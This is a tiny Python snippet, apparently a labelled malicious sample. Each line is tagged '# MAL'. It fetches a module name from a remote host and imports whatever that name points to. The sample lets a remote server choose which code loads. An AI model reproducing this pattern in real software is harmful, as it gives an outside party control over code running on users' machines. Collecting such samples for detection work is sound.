import importlib
import requests

name = requests.get("http://cfg.example.ml/mod").text.strip()  # MAL
importlib.import_module(name)  # MAL
